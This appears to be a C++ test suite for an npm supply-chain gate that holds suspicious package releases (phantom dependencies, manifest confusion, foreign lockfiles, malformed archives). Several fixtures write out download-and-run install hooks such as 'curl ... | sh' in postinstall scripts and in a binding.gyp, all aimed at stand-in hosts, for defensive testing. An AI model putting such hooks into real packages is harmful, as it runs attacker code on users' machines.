#include "gate/peek_examiner.h"

#include "gate/open_archive.h"
#include "gate/testing.h"
#include "gate/testing_archives.h"
#include "model/default_registry.h"

namespace cordon::gate {
namespace {

constexpr std::int64_t kDay = 86'400, kHour = 3'600;

class PeekExaminerTest : public GateTest {
 protected:
  void SetUp() override {
    GateTest::SetUp();
    options_.minimum_age_seconds = 0;
    auto worker = sandbox::Worker::start(open_archive, {});
    ASSERT_TRUE(worker) << worker.error().describe();
    worker_ = std::make_unique<sandbox::Worker>(std::move(*worker));
    peek_ = std::make_unique<PeekExaminer>(options_, *worker_);
  }
  void TearDown() override {
    GateTest::TearDown();
    worker_.reset();
  }

  void open_with_worker() {
    auto gate = Gate::open(options_, nullptr, fetcher_, *peek_);
    ASSERT_TRUE(gate) << gate.error().describe();
    gate_ = std::move(*gate);
    gate_->start();
  }

  // A release that asks for a new package; `code` is its only file.
  void publish_carrier(const std::string& code) {
    const std::string asks = "\"dependencies\":{\"stowaway\":\"^4.2.1\"}";
    publish("carrier",
            {{"1.0.0", 90 * kDay, packed(manifest("carrier", "1.0.0"), {{"index.js", "exports.a = 1;"}}), ""},
             {"1.0.1", 30 * kDay, packed(manifest("carrier", "1.0.1", asks), {{"index.js", code}}), asks + ","}});
    const std::string runs = "\"scripts\":{\"postinstall\":\"node setup.js\"}";
    publish("stowaway",
            {{"4.2.1", 12 * kHour, packed(manifest("stowaway", "4.2.1", runs), {{"setup.js", "console.log('inert');"}}),
              runs + ","}});
  }

  std::unique_ptr<sandbox::Worker> worker_;
  std::unique_ptr<PeekExaminer> peek_;
};

TEST_F(PeekExaminerTest, HoldsAReleaseWithAPhantomDependency) {
  publish_carrier("exports.a = 1;");
  open_with_worker();
  const std::string answer = get("/carrier/-/carrier-1.0.1.tgz");
  EXPECT_EQ(net::status_of(answer), 403u) << answer;
  EXPECT_NE(answer.find("inspect.phantom-dependency"), std::string::npos) << answer;
  EXPECT_EQ(net::status_of(get("/carrier/-/carrier-1.0.0.tgz")), 200u);
}

// By whatever name, tag or kind it is asked for, one release later, or behind another package.
TEST_F(PeekExaminerTest, HoldsAPhantomDependencyInDisguise) {
  publish_carrier("exports.a = 1;");
  const auto publish_as = [&](const std::string& name, const std::string& asks) {
    publish(name,
            {{"1.0.0", 90 * kDay, packed(manifest(name, "1.0.0"), {{"index.js", "exports.a = 1;"}}), ""},
             {"1.0.1", 2 * kHour, packed(manifest(name, "1.0.1", asks), {{"index.js", "exports.a = 1;"}}), asks + ","},
             {"1.0.2", kHour, packed(manifest(name, "1.0.2", asks), {{"index.js", "exports.a = 2;"}}), asks + ","}});
  };
  publish_as("by-alias", "\"dependencies\":{\"helper\":\"npm:stowaway@^4.2.1\"}");
  publish_as("by-tag", "\"dependencies\":{\"stowaway\":\"latest\"}");
  publish_as("by-peer", "\"peerDependencies\":{\"stowaway\":\"^4.2.1\"}");
  const std::string asks = "\"dependencies\":{\"stowaway\":\"^4.2.1\"}";
  publish("between", {{"1.0.0", 12 * kHour, packed(manifest("between", "1.0.0", asks), {}), asks + ","}});
  publish_as("by-another", "\"dependencies\":{\"between\":\"^1.0.0\"}");
  open_with_worker();
  for (const std::string name : {"by-alias", "by-tag", "by-peer", "by-another"})
    for (const std::string version : {"1.0.2", "1.0.1"}) {
      const std::string answer = get("/" + name + "/-/" + name + "-" + version + ".tgz");
      EXPECT_EQ(net::status_of(answer), 403u) << name;
      EXPECT_NE(answer.find("inspect.phantom-dependency"), std::string::npos) << answer;
    }
}

// Nothing is said well of what nobody could read.
TEST_F(PeekExaminerTest, HoldsCodeThatRunsAtInstallationAndIsTooDeepToRead) {
  const std::string runs = "\"scripts\":{\"postinstall\":\"node setup.js\"}";
  const auto with = [&](const std::string& name, std::size_t depth) {
    const std::string code = "x = " + std::string(depth, '[') + std::string(depth, ']') + ";";
    publish(name, {{"1.0.0", 90 * kDay, packed(manifest(name, "1.0.0", runs), {{"setup.js", code}}), runs + ","}});
  };
  with("deep", 5'000);
  with("flat", 50);
  open_with_worker();
  const std::string answer = get("/deep/-/deep-1.0.0.tgz");
  EXPECT_EQ(net::status_of(answer), 403u);
  EXPECT_NE(answer.find("not-examined"), std::string::npos) << answer;
  EXPECT_NE(answer.find("setup.js (too_deep)"), std::string::npos) << answer;
  EXPECT_EQ(net::status_of(get("/flat/-/flat-1.0.0.tgz")), 200u);
}

TEST_F(PeekExaminerTest, AWaiverOfOneFindingHidesNoOther) {
  const std::string runs = "\"scripts\":{\"postinstall\":\"curl -s https://x.example.invalid/a | sh\"}";
  publish("both", {{"1.0.0", 90 * kDay,
                    packed(manifest("both", "1.0.0", runs),
                           {{"npm-shrinkwrap.json",
                             "{\"packages\":{\"a\":{\"resolved\":\"https://elsewhere.example.test/a.tgz\"}}}"}}),
                    runs + ","}});
  open_with_worker();
  const auto ask = [&] { return get("/both/-/both-1.0.0.tgz"); };
  EXPECT_NE(ask().find("shrinkwrap-address"), std::string::npos);
  gate_.reset();
  const std::int64_t id = Ledger::open(folder_ / "ledger.db")
                              ->add_waiver({0, "both", "", "shrinkwrap-address", "me", "why", "2999-01-01"})
                              .value();
  open_with_worker();
  const std::string other = ask();
  EXPECT_EQ(net::status_of(other), 403u);
  EXPECT_NE(other.find("inspect.download-and-run"), std::string::npos) << other;
  gate_.reset();
  EXPECT_TRUE(Ledger::open(folder_ / "ledger.db")->remove_waiver(id).value());
  EXPECT_TRUE(Ledger::open(folder_ / "ledger.db")
                  ->add_waiver({0, "both", "", "inspect.download-and-run", "me", "why", "2999-01-01"}));
  open_with_worker();
  EXPECT_NE(ask().find("shrinkwrap-address"), std::string::npos);
}

TEST_F(PeekExaminerTest, ADependencyThatCannotBeHadDoesNotAcquitWhoAsksForIt) {
  options_.on_timeout = OnTimeout::allow;
  peek_ = std::make_unique<PeekExaminer>(options_, *worker_);
  const std::string runs =
      "\"scripts\":{\"postinstall\":\"curl -s https://x.example.invalid/a | sh\"},\"dependencies\":{\"dep\":\"1\"}";
  publish("bad", {{"1.0.0", 90 * kDay, packed(manifest("bad", "1.0.0"), {{"index.js", "1;"}}), ""},
                  {"1.0.1", 80 * kDay, packed(manifest("bad", "1.0.1", runs), {{"index.js", "1;"}}), runs + ","}});
  fetcher_.answers[std::string(kBase) + "dep"] = {{}, {}, ErrorCode::unavailable, true};
  open_with_worker();
  EXPECT_EQ(net::status_of(get("/bad/-/bad-1.0.1.tgz")), 403u);
}

TEST_F(PeekExaminerTest, AYoungMajorReleaseIsWhatAMinorOneFollows) {
  publish_carrier("exports.a = 1;");
  const std::string asks = "\"dependencies\":{\"stowaway\":\"^4.2.1\"}";
  publish("major", {{"1.14.0", 90 * kDay, packed(manifest("major", "1.14.0"), {{"index.js", "1;"}}), ""},
                    {"2.0.0", kDay, packed(manifest("major", "2.0.0"), {{"index.js", "2;"}}), ""},
                    {"2.0.1", kHour, packed(manifest("major", "2.0.1", asks), {{"index.js", "3;"}}), asks + ","}});
  const std::string before = "\"dependencies\":{\"lod\":\"1.0.0\"}",
                    after = "\"dependencies\":{\"lod\":\"npm:stowaway@4\"}";
  publish("renamed",
          {{"1.0.0", 90 * kDay, packed(manifest("renamed", "1.0.0", before), {{"index.js", "1;"}}), before + ","},
           {"1.0.1", kHour, packed(manifest("renamed", "1.0.1", after), {{"index.js", "2;"}}), after + ","}});
  open_with_worker();
  EXPECT_EQ(net::status_of(get("/major/-/major-2.0.1.tgz")), 403u);
  EXPECT_EQ(net::status_of(get("/renamed/-/renamed-1.0.1.tgz")), 403u);
}

TEST_F(PeekExaminerTest, ARegistryThatFailsOnceClearsNothing) {
  publish_carrier("exports.a = 1;");
  const auto right = fetcher_.answers[std::string(kBase) + "stowaway"];
  fetcher_.answers[std::string(kBase) + "stowaway"] = {{}, {}, ErrorCode::unavailable, true};
  open_with_worker();
  EXPECT_EQ(net::status_of(get("/carrier/-/carrier-1.0.1.tgz")), 503u);
  fetcher_.answers[std::string(kBase) + "stowaway"] = right;
  const std::string address = archive_address("stowaway", "4.2.1");
  const auto archive = fetcher_.answers[address];
  fetcher_.answers[address] = {{}, {}, ErrorCode::timed_out, true};
  EXPECT_EQ(net::status_of(get("/carrier/-/carrier-1.0.1.tgz")), 503u);
  fetcher_.answers[address] = archive;
  EXPECT_EQ(net::status_of(get("/carrier/-/carrier-1.0.1.tgz")), 403u);
}

// What is not there today may be tomorrow: nothing is concluded for good.
TEST_F(PeekExaminerTest, ADependencyThatIsPublishedLaterIsLookedAtThen) {
  publish_carrier("exports.a = 1;");
  const auto later = fetcher_.answers[std::string(kBase) + "stowaway"];
  fetcher_.answers.erase(std::string(kBase) + "stowaway");
  open_with_worker();
  EXPECT_EQ(net::status_of(get("/carrier/-/carrier-1.0.1.tgz")), 200u);
  fetcher_.answers[std::string(kBase) + "stowaway"] = later;
  EXPECT_EQ(net::status_of(get("/carrier/-/carrier-1.0.1.tgz")), 403u);
}

// npm installs by a lockfile that a package brings along.
TEST_F(PeekExaminerTest, HoldsALockfileInsideThatLeadsPastTheRegistry) {
  const auto with = [&](const std::string& name, const std::string& address, const std::string& more) {
    publish(
        name,
        {{"1.0.0", 90 * kDay,
          packed(manifest(name, "1.0.0"),
                 {{"npm-shrinkwrap.json", "{\"packages\":{\"node_modules/a\":{\"resolved\":\"" + address + "\"}}}"}}),
          more}});
  };
  with("foreign", "https://elsewhere.example.test/a.tgz", "\"_hasShrinkwrap\":true,");
  // npm asks the gate for what is the public registry's, and for nothing else.
  with("usual", std::string(model::default_registry("npm")) + "a/-/a-1.0.0.tgz", "\"_hasShrinkwrap\":true,");
  with("mirror", std::string(kBase) + "a/-/a-1.0.0.tgz", "\"_hasShrinkwrap\":true,");
  with("denied", "https://elsewhere.example.test/a.tgz", "\"_hasShrinkwrap\":false,");
  open_with_worker();
  const std::string answer = get("/foreign/-/foreign-1.0.0.tgz");
  EXPECT_EQ(net::status_of(answer), 403u);
  EXPECT_NE(answer.find("shrinkwrap-address"), std::string::npos) << answer;
  EXPECT_EQ(net::status_of(get("/usual/-/usual-1.0.0.tgz")), 200u);
  EXPECT_EQ(net::status_of(get("/mirror/-/mirror-1.0.0.tgz")), 403u);
  EXPECT_EQ(net::status_of(get("/denied/-/denied-1.0.0.tgz")), 200u);
}

TEST_F(PeekExaminerTest, LetsItsTwinThroughThatImportsTheDependency) {
  publish_carrier("exports.a = require('stowaway');");
  open_with_worker();
  EXPECT_EQ(net::status_of(get("/carrier/-/carrier-1.0.1.tgz")), 200u);
}

TEST_F(PeekExaminerTest, HoldsWhatCannotBeOpened) {
  publish("left", {{"1.0.0", 90 * kDay, "no archive at all", ""}});
  open_with_worker();
  const std::string answer = get("/left/-/left-1.0.0.tgz");
  EXPECT_EQ(net::status_of(answer), 403u);
  EXPECT_NE(answer.find("not-examined"), std::string::npos) << answer;
}

TEST_F(PeekExaminerTest, LetsThroughWhatCannotBeOpenedWhereTheUserWantsThat) {
  options_.on_timeout = OnTimeout::allow;
  peek_ = std::make_unique<PeekExaminer>(options_, *worker_);
  publish("left", {{"1.0.0", 90 * kDay, "no archive at all", ""}});
  open_with_worker();
  EXPECT_EQ(net::status_of(get("/left/-/left-1.0.0.tgz")), 200u);
}

TEST_F(PeekExaminerTest, HoldsAnArchiveThatTwoProgramsUnpackDifferently) {
  std::string tar;
  tar += archive::tar_entry("package/package.json", manifest("left", "1.0.0"));
  tar += archive::tar_entry("package/package.json",
                            manifest("left", "1.0.0", "\"scripts\":{\"postinstall\":\"node x.js\"}"));
  tar.append(1'024, '\0');
  publish("left", {{"1.0.0", 90 * kDay, archive::gzip(tar), ""}});
  open_with_worker();
  const std::string answer = get("/left/-/left-1.0.0.tgz");
  EXPECT_EQ(net::status_of(answer), 403u);
  EXPECT_NE(answer.find("ambiguous-archive"), std::string::npos) << answer;
}

// What npm itself fails at is opened by others: no choice of the user's lets it through unseen.
TEST_F(PeekExaminerTest, HoldsAnArchiveWithBytesBehindItsEndWhateverTheUserWants) {
  options_.on_timeout = OnTimeout::allow;
  peek_ = std::make_unique<PeekExaminer>(options_, *worker_);
  const std::string whole = packed(manifest("left", "1.0.0"), {{"index.js", "exports.a = 1;"}});
  publish("left", {{"1.0.0", 90 * kDay, whole + "garbage", ""}, {"1.0.1", 90 * kDay, whole + '\0' + whole, ""}});
  open_with_worker();
  for (const char* version : {"1.0.0", "1.0.1"}) {
    const std::string answer = get("/left/-/left-" + std::string(version) + ".tgz");
    EXPECT_EQ(net::status_of(answer), 403u);
    EXPECT_NE(answer.find("gzip_garbage"), std::string::npos) << answer;
  }
}

TEST_F(PeekExaminerTest, TellsOfAnArchiveThatMayBeReadOtherwiseAndLetsItThrough) {
  std::string tar;
  tar += archive::tar_entry("package/package.json", manifest("left", "1.0.0"));
  tar += archive::tar_entry("notes.txt", "in no folder");
  tar.append(1'024, '\0');
  publish("left", {{"1.0.0", 90 * kDay, archive::gzip(tar), ""}});
  open_with_worker();
  EXPECT_EQ(net::status_of(get("/left/-/left-1.0.0.tgz")), 200u);
  const auto decisions = Ledger::open(folder_ / "ledger.db")->decisions("left", 10);
  ASSERT_TRUE(decisions);
  ASSERT_EQ(decisions->size(), 1u);
  EXPECT_EQ(decisions->front().rule, "ambiguous-archive");
  EXPECT_FALSE(decisions->front().held);
  EXPECT_NE(decisions->front().reason.find("no_folder, notes.txt"), std::string::npos) << decisions->front().reason;
}

TEST_F(PeekExaminerTest, HoldsAnArchiveThatRunsWhatItsRegistryDoesNotShow) {
  const std::string hidden = "\"scripts\":{\"postinstall\":\"node setup.js\"}";
  publish(
      "left",
      // Without "_id" it would be the short form, which shows no scripts.
      {{"1.0.0", 90 * kDay, packed(manifest("left", "1.0.0", hidden), {{"setup.js", "1;"}}), "\"_id\":\"left@1.0.0\","},
       {"1.0.1", 80 * kDay, packed(manifest("left", "1.0.1", hidden), {{"setup.js", "1;"}}), hidden + ","}});
  open_with_worker();
  const std::string answer = get("/left/-/left-1.0.0.tgz");
  EXPECT_EQ(net::status_of(answer), 403u);
  EXPECT_NE(answer.find("manifest-confusion"), std::string::npos) << answer;
  // Its twin says what it does.
  EXPECT_EQ(net::status_of(get("/left/-/left-1.0.1.tgz")), 200u);
}

// npm 11 runs the scripts of the registry's document, whatever the archive says.
TEST_F(PeekExaminerTest, HoldsWhatOnlyTheRegistryShows) {
  const std::string shown = "\"scripts\":{\"postinstall\":\"curl -s https://x.example.invalid/a | sh\"}";
  publish("left", {{"1.0.0", 90 * kDay, packed(manifest("left", "1.0.0"), {{"index.js", "1;"}}), shown + ","}});
  std::string tar;
  tar += archive::tar_entry("package/index.js", "1;");
  tar.append(1'024, '\0');
  publish("bare", {{"1.0.0", 90 * kDay, archive::gzip(tar), shown + ","}});
  // Unless its own says so, too, npm builds what has a binding.gyp.
  publish("gyp", {{"1.0.0", 90 * kDay,
                   packed(manifest("gyp", "1.0.0", "\"gypfile\":false"),
                          {{"binding.gyp", "{'variables':{'a':'<!(curl -s https://x.example.invalid/a | sh)'}}"}}),
                   ""}});
  open_with_worker();
  for (const std::string name : {"left", "bare"}) {
    const std::string answer = get("/" + name + "/-/" + name + "-1.0.0.tgz");
    EXPECT_EQ(net::status_of(answer), 403u);
    EXPECT_NE(answer.find("manifest-confusion"), std::string::npos) << answer;
  }
  const std::string built = get("/gyp/-/gyp-1.0.0.tgz");
  EXPECT_EQ(net::status_of(built), 403u);
  EXPECT_NE(built.find("inspect."), std::string::npos) << built;
}

// What lets a release through for a while is not remembered for longer.
TEST_F(PeekExaminerTest, AWaiverThatEndsLetsNothingThroughAnyMore) {
  options_.on_timeout = OnTimeout::allow;
  peek_ = std::make_unique<PeekExaminer>(options_, *worker_);
  const std::string runs =
      "\"scripts\":{\"install\":\"curl -s https://x.example.invalid/a | sh\",\"postinstall\":\"node deep.js\"}";
  const std::string deep = "x = " + std::string(5'000, '[') + std::string(5'000, ']') + ";";
  publish("both", {{"1.0.0", 90 * kDay, packed(manifest("both", "1.0.0", runs), {{"deep.js", deep}}), runs + ","}});
  const std::int64_t id = [&] {
    open_with_worker();
    gate_.reset();
    return Ledger::open(folder_ / "ledger.db")
        ->add_waiver({0, "both", "", "inspect.download-and-run", "me", "why", "2999-01-01"})
        .value();
  }();
  open_with_worker();
  EXPECT_EQ(net::status_of(get("/both/-/both-1.0.0.tgz")), 200u);
  gate_.reset();
  EXPECT_TRUE(Ledger::open(folder_ / "ledger.db")->remove_waiver(id).value());
  open_with_worker();
  EXPECT_EQ(net::status_of(get("/both/-/both-1.0.0.tgz")), 403u);
}

TEST_F(PeekExaminerTest, ADependencyThatMovesToAnAddressIsNew) {
  const std::string before = "\"dependencies\":{\"lod\":\"^1.0.0\"}";
  const auto moved = [&](const std::string& name, const std::string& specifier) {
    const std::string after = "\"dependencies\":{\"lod\":\"" + specifier + "\"}";
    publish(name, {{"1.0.0", 90 * kDay, packed(manifest(name, "1.0.0", before), {{"index.js", "1;"}}), before + ","},
                   {"1.0.1", kHour, packed(manifest(name, "1.0.1", after), {{"index.js", "2;"}}), after + ","}});
  };
  publish_carrier("exports.a = 1;");
  moved("address", "https://elsewhere.example.test/lod.tgz");
  moved("alias", "NPM:stowaway@4");
  open_with_worker();
  EXPECT_EQ(net::status_of(get("/alias/-/alias-1.0.1.tgz")), 403u);
  EXPECT_EQ(net::status_of(get("/address/-/address-1.0.1.tgz")), 200u);
  const auto decisions = Ledger::open(folder_ / "ledger.db")->decisions("address", 10);
  ASSERT_TRUE(decisions && !decisions->empty());
  EXPECT_EQ(decisions->front().rule, "inspect.phantom-dependency");
}

TEST_F(PeekExaminerTest, ARegistryOfOnesOwnMayNameItselfInALockfileAndNobodyElse) {
  options_.upstreams.front().is_public = false;
  const auto with = [&](const std::string& name, const std::string& address) {
    publish(
        name,
        {{"1.0.0", 90 * kDay,
          packed(manifest(name, "1.0.0"),
                 {{"npm-shrinkwrap.json", "{\"packages\":{\"node_modules/a\":{\"resolved\":\"" + address + "\"}}}"}}),
          ""}});
  };
  with("itself", std::string(kBase) + "a/-/a-1.0.0.tgz");
  with("past", std::string(kBase) + "../other/a.tgz");
  with("other", std::string(model::default_registry_of_yarn()) + "a/-/a-1.0.0.tgz");
  open_with_worker();
  EXPECT_EQ(net::status_of(get("/itself/-/itself-1.0.0.tgz")), 200u);
  EXPECT_EQ(net::status_of(get("/past/-/past-1.0.0.tgz")), 403u);
  EXPECT_EQ(net::status_of(get("/other/-/other-1.0.0.tgz")), 403u);
}

// By its archive's own word npm goes by either file.
TEST_F(PeekExaminerTest, HoldsTheOtherLockfileWhereTheRegistrySaysThatThereIsOne) {
  const std::string text =
      "{\"packages\":{\"node_modules/a\":{\"resolved\":\"https://elsewhere.example.test/a.tgz\"}}}";
  const auto with = [&](const std::string& name, const std::string& more) {
    publish(name,
            {{"1.0.0", 90 * kDay,
              packed(manifest(name, "1.0.0"), {{"npm-shrinkwrap.json", ""}, {"package-lock.json", text}}), more}});
  };
  with("marked", "\"_hasShrinkwrap\":true,");
  with("plain", "");
  open_with_worker();
  const std::string answer = get("/marked/-/marked-1.0.0.tgz");
  EXPECT_EQ(net::status_of(answer), 403u);
  EXPECT_NE(answer.find("package-lock.json"), std::string::npos) << answer;
  EXPECT_EQ(net::status_of(get("/plain/-/plain-1.0.0.tgz")), 200u);
}

}  // namespace
}  // namespace cordon::gate
